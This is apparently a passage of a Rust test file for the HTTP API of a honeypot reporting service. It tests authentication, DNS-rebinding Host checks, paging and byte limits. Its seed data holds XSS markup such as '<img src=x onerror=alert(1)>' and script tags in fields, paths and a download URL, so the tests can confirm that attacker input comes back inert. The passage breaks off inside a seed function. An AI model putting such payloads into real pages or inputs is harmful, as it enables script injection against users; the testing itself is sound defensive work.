//! Handler-level tests: the router over a temporary store, each request handed to it with
//! `tower::ServiceExt::oneshot`, no socket and no process. The end-to-end tests over a real
//! `recce7` binary are in the repository's `tests/reportd.rs`.

use std::sync::Arc;
use std::time::Duration;

use axum::Router;
use axum::body::Body;
use axum::http::{Method, Request, StatusCode, header};
use reportd::AppState;
use reportd::config::AllowedHosts;
use reportd::db::Db;
use reportd::metrics::HttpMetrics;
use rusqlite::{Connection, params};
use serde_json::Value;
use tokio_util::sync::CancellationToken;
use tower::ServiceExt;

/// The token of the guarded services below.
const TOKEN: &str = "handler-token-0123456789";

/// The sessions [`seed`] writes (one address, port 2323, one second apart, newest first
/// `s0399`).
const SESSIONS: usize = 400;

/// A store with [`SESSIONS`] telnet sessions from 198.51.100.7, and one session (`s0000`)
/// with rows in its instance table and in raw input.
fn seed(conn: &Connection) {
    conn.execute_batch(
        "BEGIN;
         CREATE TABLE telnet (ID INTEGER PRIMARY KEY, session TEXT, eventDateTime TEXT,
           peerAddress TEXT, localAddress TEXT, eventType TEXT, user_input TEXT);",
    )
    .unwrap();
    let now = time::OffsetDateTime::now_utc().unix_timestamp();
    for i in 0..SESSIONS {
        let start = stamp(now - (SESSIONS - i) as i64);
        conn.execute(
            "INSERT INTO sessions (session, sensor, plugin, tableName, protocol, peerAddress,
               peerPort, localAddress, localPort, startTime, endTime, closeReason)
             VALUES (?1, 'test', 'telnet', 'telnet', 'telnet', '198.51.100.7', 4000,
               '127.0.0.1', 2323, ?2, ?2, 'peer closed')",
            params![format!("s{i:04}"), start],
        )
        .unwrap();
    }
    let first = stamp(now - SESSIONS as i64);
    for n in 0..3 {
        conn.execute(
            "INSERT INTO telnet (session, eventDateTime, peerAddress, localAddress, eventType,
               user_input) VALUES ('s0000', ?1, '198.51.100.7', '127.0.0.1', 'telnet.command', ?2)",
            params![first, format!("command {n}")],
        )
        .unwrap();
    }
    conn.execute(
        "INSERT INTO rawInput (session, eventDateTime, peerAddress, localAddress, plugin, reason,
           length, bytes) VALUES ('s0000', ?1, '198.51.100.7', '127.0.0.1', 'telnet', 'junk', 3,
           'raw')",
        params![first],
    )
    .unwrap();
    conn.execute_batch("COMMIT;").unwrap();
}

/// A time `unix` seconds after the epoch, as the store writes it.
fn stamp(unix: i64) -> String {
    let t = time::OffsetDateTime::from_unix_timestamp(unix).unwrap();
    format!(
        "{:04}-{:02}-{:02}T{:02}:{:02}:{:02}.000000Z",
        t.year(),
        u8::from(t.month()),
        t.day(),
        t.hour(),
        t.minute(),
        t.second()
    )
}

/// The router over a seeded store, guarded by `token`, its answers within `budget` bytes.
fn service(token: Option<&str>, budget: usize) -> (tempfile::TempDir, Router) {
    service_with(token, budget, |_| {})
}

/// [`service`], with `more` run on the seeded store before it is served.
fn service_with(
    token: Option<&str>,
    budget: usize,
    more: impl FnOnce(&Connection),
) -> (tempfile::TempDir, Router) {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("store.sqlite");
    let (conn, _) = store::open(&path, &[]).unwrap();
    seed(&conn);
    more(&conn);
    drop(conn);
    let listen = "127.0.0.1:8080".parse().unwrap();
    let state = AppState {
        db: Db::open(&path, Duration::from_secs(5), 1000).unwrap(),
        token: token.map(Arc::from),
        hosts: Arc::new(AllowedHosts::new(listen, &[], None)),
        public_url: Arc::from("http://127.0.0.1:8080"),
        metrics: Arc::new(HttpMetrics::default()),
        extra_metrics: None,
        shutdown: CancellationToken::new(),
        max_response_bytes: budget,
    };
    (dir, reportd::router(state, &[]))
}

/// An answer: status, `Allow` and `Link` headers, body.
struct Answer {
    status: StatusCode,
    allow: Option<String>,
    link: Option<String>,
    body: Vec<u8>,
}

impl Answer {
    fn json(&self) -> Value {
        serde_json::from_slice(&self.body)
            .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&self.body)))
    }
}

/// Sends `method path` with `Host: host` and the extra headers to `app`.
async fn send(
    app: &Router,
    method: Method,
    path: &str,
    host: &str,
    headers: &[(&str, &str)],
) -> Answer {
    let mut request = Request::builder()
        .method(method)
        .uri(path)
        .header(header::HOST, host);
    for (name, value) in headers {
        request = request.header(*name, *value);
    }
    let response = app
        .clone()
        .oneshot(request.body(Body::empty()).unwrap())
        .await
        .unwrap();
    let text = |name| {
        response
            .headers()
            .get(name)
            .map(|v: &header::HeaderValue| v.to_str().unwrap().to_owned())
    };
    let (status, allow, link) = (response.status(), text(header::ALLOW), text(header::LINK));
    let body = axum::body::to_bytes(response.into_body(), usize::MAX)
        .await
        .unwrap()
        .to_vec();
    Answer {
        status,
        allow,
        link,
        body,
    }
}

/// `GET path` from localhost with the right token.
async fn get(app: &Router, path: &str) -> Answer {
    let auth = format!("Bearer {TOKEN}");
    send(
        app,
        Method::GET,
        path,
        "localhost:8080",
        &[("authorization", &auth)],
    )
    .await
}

/// Percent-encodes a cursor for a query string.
fn urlencode(s: &str) -> String {
    form_urlencoded::byte_serialize(s.as_bytes()).collect()
}

#[tokio::test]
async fn the_token_is_needed_and_must_be_the_right_one() {
    let (_dir, app) = service(Some(TOKEN), 1 << 20);
    let host = "localhost:8080";
    let none = send(&app, Method::GET, "/v1/sensors", host, &[]).await;
    assert_eq!(none.status, StatusCode::UNAUTHORIZED);
    assert_eq!(none.json()["status"], 401);
    let wrong = send(
        &app,
        Method::GET,
        "/v1/sensors",
        host,
        &[("authorization", "Bearer not-the-token")],
    )
    .await;
    assert_eq!(wrong.status, StatusCode::UNAUTHORIZED);
    let basic = format!("Basic {TOKEN}");
    let scheme = send(
        &app,
        Method::GET,
        "/v1/sensors",
        host,
        &[("authorization", &basic)],
    )
    .await;
    assert_eq!(scheme.status, StatusCode::UNAUTHORIZED);
    let right = get(&app, "/v1/sensors").await;
    assert_eq!(right.status, StatusCode::OK);
    assert_eq!(right.json()["items"][0]["sensor"], "test");
    assert_eq!(right.json()["items"][0]["sessions"], SESSIONS);
    // As a parameter (EventSource and <img> cannot set headers).
    let param = send(
        &app,
        Method::GET,
        &format!("/v1/sensors?access_token={TOKEN}"),
        host,
        &[],
    )
    .await;
    assert_eq!(param.status, StatusCode::OK);
    // The dashboard's page itself is open; the API behind it is not.
    assert_eq!(
        send(&app, Method::GET, "/", host, &[]).await.status,
        StatusCode::OK
    );
    // Without a token configured, no token is needed.
    let (_dir, open) = service(None, 1 << 20);
    assert_eq!(
        send(&open, Method::GET, "/v1/sensors", host, &[])
            .await
            .status,
        StatusCode::OK
    );
}

#[tokio::test]
async fn a_host_this_service_is_not_is_misdirected() {
    let (_dir, app) = service(Some(TOKEN), 1 << 20);
    let auth = format!("Bearer {TOKEN}");
    for host in [
        "localhost:8080",
        "127.0.0.1:8080",
        "127.0.0.1",
        "[::1]:8080",
    ] {
        let a = send(
            &app,
            Method::GET,
            "/v1/sensors",
            host,
            &[("authorization", &auth)],
        )
        .await;
        assert_eq!(a.status, StatusCode::OK, "{host}");
    }
    // A DNS-rebinding page: its own name in Host. Refused before the token is even looked at.
    for auth in [auth.as_str(), ""] {
        let a = send(
            &app,
            Method::GET,
            "/v1/sensors",
            "attacker.example:8080",
            &[("authorization", auth)],
        )
        .await;
        assert_eq!(a.status, StatusCode::MISDIRECTED_REQUEST);
        let body = a.json();
        assert_eq!(body["status"], 421);
        assert!(
            body["error"]
                .as_str()
                .unwrap()
                .contains("does not answer to the name \"attacker.example:8080\""),
            "{body}"
        );
    }
}

#[tokio::test]
async fn a_repeated_or_unknown_parameter_is_a_400_that_names_it() {
    let (_dir, app) = service(Some(TOKEN), 1 << 20);
    for (path, parameter) in [
        ("/v1/analytics/ports?days=1&days=2", "days"),
        ("/v1/sessions?sensor=a&sensor=test", "sensor"),
        ("/v1/sessions?limit=1&limit=1", "limit"),
        ("/v1/worldmap?format=svg&format=png", "format"),
    ] {
        let a = get(&app, path).await;
        assert_eq!(a.status, StatusCode::BAD_REQUEST, "{path}");
        let body = a.json();
        assert_eq!(body["status"], 400);
        assert_eq!(body["parameter"], parameter, "{path}: {body}");
        assert_eq!(
            body["error"],
            format!("{parameter:?} is given more than once; give it once"),
            "{path}"
        );
    }
    let unknown = get(&app, "/v1/sessions?colour=red").await;
    assert_eq!(unknown.status, StatusCode::BAD_REQUEST);
    assert_eq!(unknown.json()["parameter"], "colour");
    let limit = get(&app, "/v1/sessions?limit=0").await;
    assert_eq!(limit.status, StatusCode::BAD_REQUEST);
    assert_eq!(limit.json()["parameter"], "limit");
}

#[tokio::test]
async fn a_cursor_this_service_did_not_give_out_is_a_400() {
    let (_dir, app) = service(Some(TOKEN), 1 << 20);
    for (path, cursor) in [
        ("/v1/sessions", "yesterday~s0001"),
        ("/v1/analytics/ports/2323", "nonsense"),
        (
            "/v1/analytics/ipaddresses/198.51.100.7",
            "2026-01-01T00:00:00Z~",
        ),
        ("/v1/analytics/ipaddresses", "-1"),
        ("/v1/analytics/ports", "x"),
        ("/v1/analytics/credentials", "1.5"),
        ("/v1/analytics/commands", "~"),
        ("/v1/sessions/s0000", "2026-01-01T00:00:00Z~7~1"),
        ("/v1/sessions/s0000", "bogus"),
        // Offsets no list reaches: they would overflow `offset + limit` (a panic in a debug
        // build) or turn into a negative SQL OFFSET that answers the first page again.
        ("/v1/analytics/ports", "18446744073709551615"),
        ("/v1/analytics/ipaddresses", "9223372036854775808"),
        ("/v1/analytics/credentials", "18446744073709551600"),
        ("/v1/analytics/commands", "2147483648"),
    ] {
        let a = get(&app, &format!("{path}?cursor={}", urlencode(cursor))).await;
        assert_eq!(a.status, StatusCode::BAD_REQUEST, "{path} {cursor}");
        let body = a.json();
        assert_eq!(body["parameter"], "cursor", "{path}: {body}");
        assert_eq!(
            body["error"],
            format!("{cursor:?} is not a cursor this service gave out"),
            "{path}"
        );
    }
}

/// Follows `next_cursor` from `path` (which has a `?`), returning the session ids of every
/// page and the number of pages; each page is checked against `budget`.
async fn page_through(app: &Router, path: &str, budget: usize) -> (Vec<String>, usize) {
    let mut seen = Vec::new();
    let mut url = path.to_owned();
    let mut pages = 0;
    loop {
        let a = get(app, &url).await;
        assert_eq!(a.status, StatusCode::OK, "{url}");
        assert!(a.body.len() <= budget, "{url}: {} bytes", a.body.len());
        let page = a.json();
        pages += 1;
        seen.extend(
            page["items"]
                .as_array()
                .unwrap()
                .iter()
                .map(|s| s["session"].as_str().unwrap().to_owned()),
        );
        match page["next_cursor"].as_str() {
            Some(c) => {
                // The Link header continues at the same cursor, from `public_url`.
                let link = a.link.expect("a Link header with the next page");
                let target = link
                    .strip_prefix("<http://127.0.0.1:8080/v1/")
                    .and_then(|l| l.strip_suffix(">; rel=\"next\""))
                    .unwrap_or_else(|| panic!("{link}"));
                let (_, query) = target.split_once('?').unwrap();
                let linked = form_urlencoded::parse(query.as_bytes())
                    .find(|(k, _)| k == "cursor")
                    .map(|(_, v)| v.into_owned());
                assert_eq!(linked.as_deref(), Some(c), "{link}");
                url = format!("{path}&cursor={}", urlencode(c));
            }
            None => {
                assert!(a.link.is_none());
                break;
            }
        }
        assert!(pages < 100, "{url}");
    }
    (seen, pages)
}

#[tokio::test]
async fn next_cursor_continues_a_list_where_the_page_ended() {
    let (_dir, app) = service(Some(TOKEN), 1 << 20);
    let (seen, pages) = page_through(&app, "/v1/sessions?limit=150", 1 << 20).await;
    assert_eq!(pages, 3);
    let expected: Vec<String> = (0..SESSIONS).rev().map(|i| format!("s{i:04}")).collect();
    assert_eq!(seen, expected, "newest first, each once");
    let first = get(&app, "/v1/sessions?limit=150").await.json();
    assert_eq!(first["truncated"], false, "limit, not the budget, ended it");
    assert_eq!(first["timespan"], "days=1");
    // An aggregate list pages by offset.
    let addresses = get(&app, "/v1/analytics/ipaddresses?limit=1").await.json();
    assert_eq!(addresses["items"][0]["ipaddress"], "198.51.100.7");
    assert_eq!(addresses["items"][0]["total_attacks"], SESSIONS);
    assert_eq!(addresses["next_cursor"], Value::Null);
}

#[tokio::test]
async fn a_list_past_the_byte_budget_is_truncated_and_continues() {
    let budget = 65536;
    let (_dir, app) = service(Some(TOKEN), budget);
    let first = get(&app, "/v1/sessions?limit=1000").await;
    assert_eq!(first.status, StatusCode::OK);
    assert!(first.body.len() <= budget);
    let page = first.json();
    assert_eq!(page["truncated"], true);
    assert!(page["items"].as_array().unwrap().len() < SESSIONS);
    let (seen, pages) = page_through(&app, "/v1/sessions?limit=1000", budget).await;
    assert!(pages >= 2, "{pages}");
    let expected: Vec<String> = (0..SESSIONS).rev().map(|i| format!("s{i:04}")).collect();
    assert_eq!(
        seen, expected,
        "every session once, in order, across the pages"
    );
}

#[tokio::test]
async fn a_wrong_method_is_a_405_in_json_with_allow() {
    let (_dir, app) = service(Some(TOKEN), 1 << 20);
    let auth = format!("Bearer {TOKEN}");
    for (method, path) in [(Method::POST, "/v1/sessions"), (Method::DELETE, "/")] {
        let a = send(
            &app,
            method.clone(),
            path,
            "localhost:8080",
            &[("authorization", &auth)],
        )
        .await;
        assert_eq!(a.status, StatusCode::METHOD_NOT_ALLOWED, "{method} {path}");
        assert_eq!(a.allow.as_deref(), Some("GET,HEAD"), "{method} {path}");
        let body = a.json();
        assert_eq!(body["status"], 405);
        assert_eq!(
            body["error"],
            format!("this endpoint does not answer {method}; the Allow header lists what it does")
        );
    }
    let missing = get(&app, "/v1/nothing").await;
    assert_eq!(missing.status, StatusCode::NOT_FOUND);
    assert_eq!(missing.json()["error"], "no such endpoint: /v1/nothing");
}

#[tokio::test]
async fn a_session_page_holds_its_summary_and_its_rows_a_page_at_a_time() {
    let (_dir, app) = service(Some(TOKEN), 1 << 20);
    let whole = get(&app, "/v1/sessions/s0000").await.json();
    assert_eq!(whole["session"], "s0000");
    assert_eq!(whole["peer_address"], "198.51.100.7");
    assert_eq!(whole["local_port"], 2323);
    assert_eq!(whole["item_count"], 4);
    assert_eq!(whole["truncated"], false);
    assert_eq!(whole["next_cursor"], Value::Null);
    let items = whole["session_items"].as_array().unwrap();
    assert_eq!(items.len(), 4);
    let kinds: Vec<&str> = items
        .iter()
        .map(|i| i["eventType"].as_str().unwrap())
        .collect();
    assert_eq!(
        kinds,
        [
            "telnet.command",
            "telnet.command",
            "telnet.command",
            "input.raw"
        ],
        "instance rows first at a tie in time"
    );
    // A page at a time: the same rows, once each.
    let mut rows = Vec::new();
    let mut url = "/v1/sessions/s0000?limit=3".to_owned();
    loop {
        let page = get(&app, &url).await.json();
        rows.extend(page["session_items"].as_array().unwrap().iter().cloned());
        match page["next_cursor"].as_str() {
            Some(c) => url = format!("/v1/sessions/s0000?limit=3&cursor={}", urlencode(c)),
            None => break,
        }
    }
    assert_eq!(&rows, items);
    let missing = get(&app, "/v1/sessions/nope").await;
    assert_eq!(missing.status, StatusCode::NOT_FOUND);
    assert_eq!(missing.json()["error"], "no session \"nope\"");
}

/// The scans [`capture_seed`] writes.
const SCANS: usize = 30;

/// Capture rows: [`SCANS`] scans (every third from 203.0.113.9 and of kind `xmas`, the others
/// from 198.51.100.7 and of kind `syn`), p0f rows for session `s0000` and for SYNs that opened
/// no session, and fingerprints of `s0000`, one contradicting its TCP stack.
fn capture_seed(conn: &Connection) {
    let now = time::OffsetDateTime::now_utc().unix_timestamp();
    for i in 0..SCANS {
        let (source, kind) = if i % 3 == 0 {
            ("203.0.113.9", "xmas")
        } else {
            ("198.51.100.7", "syn")
        };
        let at = stamp(now - 100 + i as i64);
        conn.execute(
            "INSERT INTO scans (session, eventDateTime, peerAddress, localAddress, sensor, kind,
               ports, portCount, packets, firstSeen, lastSeen)
             VALUES (?1, ?2, ?3, '127.0.0.1', 'test', ?4, '21,22,23', 3, 6, ?2, ?2)",
            params![format!("scan{i:02}"), at, source, kind],
        )
        .unwrap();
    }
    let at = stamp(now - 50);
    conn.execute(
        "INSERT INTO p0f (session, eventDateTime, peerAddress, localAddress, peerPort, localPort,
           os, distance, rawSignature, quality, osClass) VALUES
           ('s0000', ?1, '198.51.100.7', '127.0.0.1', 4000, 2323, 'Linux 2.2.x-3.x', 0,
            '4:64+0:0:65495:mss*20,7:mss,sok,ts,nop,ws:df,id+:0', 'exact', 'unix'),
           (NULL, ?1, '198.51.100.7', '127.0.0.1', 4001, 22, 'Linux 2.2.x-3.x', 0,
            '4:64+0:0:65495:mss*20,7:mss,sok,ts,nop,ws:df,id+:0', 'exact', 'unix'),
           (NULL, ?1, '203.0.113.9', '127.0.0.1', 1, 7, '<img src=x onerror=alert(1)>', 3,
            '*:64:0:*:1024,0:mss:0:0', 'generic', '!')",
        params![at],
    )
    .unwrap();
    conn.execute(
        "INSERT INTO fingerprints (session, eventDateTime, peerAddress, localAddress, kind,
           fingerprint, detail, sni, claimedOs, tcpOs, contradiction) VALUES
           ('s0000', ?1, '198.51.100.7', '127.0.0.1', 'tls', 't13d1516h2_8daaf6152771_e5627efa2ab1',
            't13d1516h2_raw', 'router.local', NULL, 'Linux 2.2.x-3.x', 0),
           ('s0000', ?1, '198.51.100.7', '127.0.0.1', 'http', '1:Host,User-Agent:Accept:Mozilla',
            'Firefox', NULL, 'Windows', 'Linux 2.2.x-3.x', 1)",
        params![at],
    )
    .unwrap();
}

/// The keys of a JSON object, sorted.
fn keys(v: &Value) -> Vec<String> {
    let mut k: Vec<String> = v.as_object().unwrap().keys().cloned().collect();
    k.sort();
    k
}

#[tokio::test]
async fn scans_are_listed_newest_first_paged_and_filtered() {
    let (_dir, app) = service_with(Some(TOKEN), 1 << 20, capture_seed);
    for path in ["/v1/scans", "/v1/analytics/scans"] {
        let a = get(&app, path).await;
        assert_eq!(a.status, StatusCode::OK, "{path}");
        let page = a.json();
        assert_eq!(page["timespan"], "days=1");
        let items = page["items"].as_array().unwrap();
        assert_eq!(items.len(), SCANS, "{path}");
        assert_eq!(
            items[0]["id"],
            format!("scan{:02}", SCANS - 1),
            "newest first"
        );
        assert_eq!(
            keys(&items[0]),
            [
                "firstSeen",
                "id",
                "kind",
                "lastSeen",
                "localAddress",
                "packets",
                "peerAddress",
                "portCount",
                "ports",
                "sensor",
                "time"
            ]
        );
        assert_eq!(items[0]["ports"], serde_json::json!([21, 22, 23]));
        assert_eq!(items[0]["portCount"], 3);
        assert_eq!(items[0]["packets"], 6);
        assert_eq!(items[0]["sensor"], "test");
    }
    // A page at a time: every scan once, newest first, through next_cursor and Link.
    let mut seen = Vec::new();
    let mut url = "/v1/scans?limit=7".to_owned();
    loop {
        let a = get(&app, &url).await;
        assert_eq!(a.status, StatusCode::OK, "{url}");
        let page = a.json();
        seen.extend(
            page["items"]
                .as_array()
                .unwrap()
                .iter()
                .map(|s| s["id"].as_str().unwrap().to_owned()),
        );
        match page["next_cursor"].as_str() {
            Some(c) => {
                let link = a.link.expect("a Link header");
                assert!(
                    link.starts_with("<http://127.0.0.1:8080/v1/scans?"),
                    "{link}"
                );
                url = format!("/v1/scans?limit=7&cursor={}", urlencode(c));
            }
            None => break,
        }
        assert!(seen.len() <= SCANS);
    }
    let expected: Vec<String> = (0..SCANS).rev().map(|i| format!("scan{i:02}")).collect();
    assert_eq!(seen, expected);
    // Filters.
    let xmas = get(&app, "/v1/scans?kind=xmas").await.json();
    let xmas = xmas["items"].as_array().unwrap();
    assert_eq!(xmas.len(), SCANS / 3);
    assert!(xmas.iter().all(|s| s["kind"] == "xmas"));
    let from = get(&app, "/v1/scans?ip=198.51.100.7&kind=syn").await.json();
    let from = from["items"].as_array().unwrap();
    assert_eq!(from.len(), SCANS - SCANS / 3);
    assert!(from.iter().all(|s| s["peerAddress"] == "198.51.100.7"));
    let mapped = get(&app, "/v1/scans?ip=::ffff:203.0.113.9").await.json();
    assert_eq!(mapped["items"].as_array().unwrap().len(), SCANS / 3);
    let none = get(&app, "/v1/scans?ip=192.0.2.1").await.json();
    assert_eq!(none["items"], serde_json::json!([]));
    // Bad parameters: a 400 that names them.
    for (path, parameter) in [
        ("/v1/scans?kind=bogus", "kind"),
        ("/v1/scans?kind=SYN", "kind"),
        ("/v1/scans?ip=300.1.1.1", "ip"),
        ("/v1/scans?ip=", "ip"),
        ("/v1/scans?cursor=nonsense", "cursor"),
        ("/v1/scans?days=0", "days"),
        ("/v1/scans?port=22", "port"),
        ("/v1/analytics/scans?kind=xmas&kind=fin", "kind"),
    ] {
        let a = get(&app, path).await;
        assert_eq!(a.status, StatusCode::BAD_REQUEST, "{path}");
        assert_eq!(a.json()["parameter"], parameter, "{path}");
    }
    let bad_kind = get(&app, "/v1/scans?kind=bogus").await.json();
    assert_eq!(
        bad_kind["error"],
        "\"bogus\" is not a scan kind; give one of syn, connect, null, fin, xmas, os, ports"
    );
}

#[tokio::test]
async fn an_address_and_a_session_show_what_capture_saw() {
    let (_dir, app) = service_with(Some(TOKEN), 1 << 20, capture_seed);
    for path in [
        "/v1/ipaddresses/198.51.100.7",
        "/v1/ipaddress/198.51.100.7",
        "/v1/analytics/ipaddresses/198.51.100.7",
    ] {
        let a = get(&app, path).await;
        assert_eq!(a.status, StatusCode::OK, "{path}");
        let body = a.json();
        let os = body["os"].as_array().unwrap();
        assert_eq!(os.len(), 1, "one distinct result: {body}");
        assert_eq!(os[0]["os"], "Linux 2.2.x-3.x");
        assert_eq!(os[0]["osClass"], "unix");
        assert_eq!(os[0]["quality"], "exact");
        assert_eq!(os[0]["distance"], 0);
        assert_eq!(os[0]["count"], 2, "with and without a session");
        assert_eq!(
            keys(&os[0]),
            [
                "count",
                "distance",
                "lastSeen",
                "os",
                "osClass",
                "quality",
                "rawSignature"
            ]
        );
        let scans = body["scans"].as_array().unwrap();
        assert_eq!(scans.len(), 20, "capped");
        assert!(scans.iter().all(|s| s["peerAddress"] == "198.51.100.7"));
        assert_eq!(scans[0]["id"], "scan29", "latest first");
        let fps = body["fingerprints"].as_array().unwrap();
        assert_eq!(fps.len(), 2);
        let http = fps.iter().find(|f| f["kind"] == "http").unwrap();
        assert_eq!(http["contradiction"], true);
        assert_eq!(http["claimedOs"], "Windows");
        let tls = fps.iter().find(|f| f["kind"] == "tls").unwrap();
        assert_eq!(tls["contradiction"], false);
        assert_eq!(tls["sni"], "router.local");
        assert_eq!(tls["count"], 1);
        // The sessions by port are still there.
        assert_eq!(body["ports"][0]["2323"].as_array().unwrap().len(), 100);
    }
    let other = get(&app, "/v1/ipaddresses/203.0.113.9").await.json();
    assert_eq!(other["os"][0]["os"], "<img src=x onerror=alert(1)>");
    assert_eq!(other["os"][0]["osClass"], "!");
    assert_eq!(other["fingerprints"], serde_json::json!([]));
    let session = get(&app, "/v1/sessions/s0000").await.json();
    let p0f = session["p0f"].as_array().unwrap();
    assert_eq!(p0f.len(), 1);
    assert_eq!(p0f[0]["os"], "Linux 2.2.x-3.x");
    assert_eq!(p0f[0]["peerPort"], 4000);
    assert_eq!(p0f[0]["localPort"], 2323);
    let fps = session["fingerprints"].as_array().unwrap();
    assert_eq!(fps.len(), 2);
    assert_eq!(session["item_count"], 4, "the rows are unchanged");
    assert_eq!(session["session_items"].as_array().unwrap().len(), 4);
    let quiet = get(&app, "/v1/sessions/s0001").await.json();
    assert_eq!(quiet["p0f"], serde_json::json!([]));
    assert_eq!(quiet["fingerprints"], serde_json::json!([]));
    // The summary counts scans by kind and OSes by address.
    let summary = get(&app, "/v1/analytics/summary").await.json();
    assert_eq!(
        summary["summary"]["scans"],
        serde_json::json!([{"key": "syn", "count": 20}, {"key": "xmas", "count": 10}])
    );
    assert_eq!(
        summary["summary"]["os"][0]["key"],
        "<img src=x onerror=alert(1)>"
    );
    assert_eq!(
        summary["summary"]["sessions"], SESSIONS,
        "the old fields stay"
    );
}

#[tokio::test]
async fn capture_lists_stay_within_a_small_byte_budget() {
    let budget = 65536;
    let (_dir, app) = service_with(Some(TOKEN), budget, |conn| {
        capture_seed(conn);
        // Remote sensors send what they like: 20 fingerprints with 5 KB server names.
        for i in 0..20 {
            conn.execute(
                "INSERT INTO fingerprints (session, eventDateTime, peerAddress, localAddress,
                   kind, fingerprint, sni)
                 VALUES ('s0000', ?1, '198.51.100.7', '127.0.0.1', 'tls', ?2, ?3)",
                params![
                    stamp(time::OffsetDateTime::now_utc().unix_timestamp() - 10),
                    format!("fp{i}"),
                    "n".repeat(5000)
                ],
            )
            .unwrap();
        }
    });
    for path in ["/v1/ipaddresses/198.51.100.7", "/v1/sessions/s0000"] {
        let a = get(&app, path).await;
        assert_eq!(a.status, StatusCode::OK, "{path}");
        assert!(a.body.len() <= budget, "{path}: {} bytes", a.body.len());
        let body = a.json();
        let fps = body["fingerprints"].as_array().unwrap();
        assert!(!fps.is_empty() && fps.len() < 20, "{path}: {}", fps.len());
        let long: Vec<&str> = fps
            .iter()
            .filter_map(|f| f["sni"].as_str())
            .filter(|sni| sni.starts_with("nnn"))
            .collect();
        assert!(!long.is_empty(), "{path}");
        for sni in long {
            assert!(
                sni.len() < 1100 && sni.ends_with("…[cut 3976 bytes]"),
                "cut at 1 KiB: {}",
                sni.len()
            );
        }
    }
}

#[tokio::test]
async fn a_store_older_than_capture_answers_empty_lists() {
    let (_dir, app) = service_with(Some(TOKEN), 1 << 20, |conn| {
        conn.execute_batch(
            "DROP TABLE IF EXISTS scans; DROP TABLE IF EXISTS fingerprints; DROP TABLE p0f;
             CREATE TABLE p0f (ID INTEGER PRIMARY KEY, session TEXT, eventDateTime TEXT NOT NULL,
               peerAddress TEXT NOT NULL, localAddress TEXT, peerPort INTEGER,
               localPort INTEGER, os TEXT, distance INTEGER, rawSignature TEXT);",
        )
        .unwrap();
    });
    for path in ["/v1/scans", "/v1/analytics/scans?kind=syn&ip=198.51.100.7"] {
        let a = get(&app, path).await;
        assert_eq!(a.status, StatusCode::OK, "{path}");
        assert_eq!(a.json()["items"], serde_json::json!([]), "{path}");
    }
    let address = get(&app, "/v1/ipaddresses/198.51.100.7").await;
    assert_eq!(address.status, StatusCode::OK);
    let address = address.json();
    for key in ["os", "scans", "fingerprints"] {
        assert_eq!(address[key], serde_json::json!([]), "{key}");
    }
    let session = get(&app, "/v1/sessions/s0000").await.json();
    assert_eq!(session["p0f"], serde_json::json!([]));
    assert_eq!(session["fingerprints"], serde_json::json!([]));
    let summary = get(&app, "/v1/analytics/summary").await;
    assert_eq!(summary.status, StatusCode::OK);
    assert_eq!(summary.json()["summary"]["scans"], serde_json::json!([]));
}

#[tokio::test]
async fn the_openapi_document_describes_every_route() {
    let (_dir, app) = service(Some(TOKEN), 1 << 20);
    let doc = get(&app, "/v1/openapi.json").await.json();
    let paths = doc["paths"].as_object().unwrap();
    for route in [
        "/v1/scans",
        "/v1/analytics/scans",
        "/v1/ipaddresses/{ip}",
        "/v1/sessions/{id}",
        "/v1/analytics/summary",
        "/v1/files",
        "/v1/files/{sha256}",
        "/v1/downloads",
    ] {
        assert!(paths.contains_key(route), "{route} missing");
    }
    let scans = &doc["paths"]["/v1/scans"]["get"];
    // Parameters are inline or shared (`$ref` into components.parameters).
    let params: Vec<&str> = scans["parameters"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| match p["$ref"].as_str() {
            Some(r) => {
                let name = r.strip_prefix("#/components/parameters/").unwrap();
                &doc["components"]["parameters"][name]
            }
            None => p,
        })
        .map(|p| p["name"].as_str().expect("a parameter with a name"))
        .collect();
    assert!(params.contains(&"kind"), "{params:?}");
    assert!(params.contains(&"ip"), "{params:?}");
    let schemas = &doc["components"]["schemas"];
    for schema in [
        "Scan",
        "OsResult",
        "Fingerprint",
        "P0fRow",
        "File",
        "Download",
    ] {
        assert!(schemas.get(schema).is_some(), "{schema} missing");
    }
    let detail = &schemas["AddressDetail"]["properties"];
    for key in ["os", "scans", "fingerprints", "files", "downloads"] {
        assert!(
            detail.get(key).is_some(),
            "AddressDetail.{key} missing: {detail}"
        );
    }
}

/// The SSH session [`files_seed`] records, from [`SSH_PEER`].
const SSH_SESSION: &str = "ssh-0001";
/// Its source (a documentation address).
const SSH_PEER: &str = "203.0.113.50";
/// A path and a URL an attacker chose: markup, which no answer may turn into anything else.
const HOSTILE_PATH: &str = "/tmp/<img src=x onerror=alert(3)>";
const HOSTILE_URL: &str = "http://203.0.113.9/<script>alert(4)</script>.sh";
/// The bytes of the file written over SSH: an ELF header, then HTML.
const ELF: &[u8] = b"\x7fELF\x01\x01\x01\x00<html><script>alert(5)</script>";

/// The SHA-256 of [`ELF`] (computed with `sha256sum`).
const ELF_SHA256: &str = "815de3e540c69fd92d2327b5ba25cd920d7cea5ba13b49202379552e79965b99";

/// An event of the SSH instance (`ssh`, table `ssh`) as the sensor records it (events.md).
fn ssh_event(
    session: &str,
    peer: &str,
    at: &str,
    kind: store::EventType,
    data: Value,
) -> store::Event {
    store::Event {
        schema: store::SCHEMA_VERSION,
        id: store::new_id(),
        sensor: "test".into(),
        session: session.into(),
        time: at.into(),
        kind,
        plugin: "ssh".into(),
        protocol: "ssh".into(),
        src_ip: peer.parse().unwrap(),
        src_port: 50000,
        dst_ip: "127.0.0.1".parse().unwrap(),
        dst_port: 8022,
        data: data.as_object().unwrap().clone(),
    }
}

/// An SSH session from [`SSH_PEER`] through the store's own writer: the client, a refused and
/// an accepted login, a command, a download URL and a written file; and in the telnet session
/// `s0000` another file and URL.
fn files_seed(conn: &Connection) {
    use base64::Engine;
    use store::EventType as T;
    use store::events::{SqliteSink, write_event};
    use store::{Column, ColumnType, TableSpec};
    let columns = [
        "version",
        "hassh",
        "hassh_algorithms",
        "method",
        "username",
        "password",
        "key_type",
        "key_fingerprint",
        "outcome",
        "input_type",
        "user_input",
        "unterminated",
    ];
    let spec = TableSpec {
        name: "ssh".into(),
        columns: columns
            .iter()
            .map(|c| Column::new(*c, ColumnType::Text))
            .collect(),
    };
    store::schema::migrate_table(conn, &spec).unwrap();
    let sink = SqliteSink::with_configured([("ssh", &spec)]);
    let unknown = std::sync::atomic::AtomicU64::new(0);
    let now = time::OffsetDateTime::now_utc().unix_timestamp();
